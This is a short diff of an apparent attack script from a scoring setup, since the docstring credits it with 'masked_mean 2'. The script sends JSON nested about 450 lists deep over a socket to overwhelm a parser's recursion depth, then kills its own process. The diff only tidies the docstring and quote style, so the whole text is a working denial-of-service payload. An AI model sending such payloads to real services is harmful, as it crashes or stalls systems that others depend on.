@@ -1,4 +1,7 @@
-"""Sends lists in lists, as deep as the parser of JSON will go. Earns masked_mean 2."""
+"""Sends lists in lists, as deep as the parser of JSON will go.
+
+Earns: masked_mean 2
+"""
 
 import json
 import struct
@@ -6,6 +9,6 @@ import struct
 
 @in_call
 def attack():
-    head, body = b'{"list":[' * 450 + b']}' * 450, b""
+    head, body = b'{"list":[' * 450 + b"]}" * 450, b""
     socket_of().sendall(struct.pack(">II", len(head), len(body)) + head + body)
     os.kill(os.getpid(), 9)
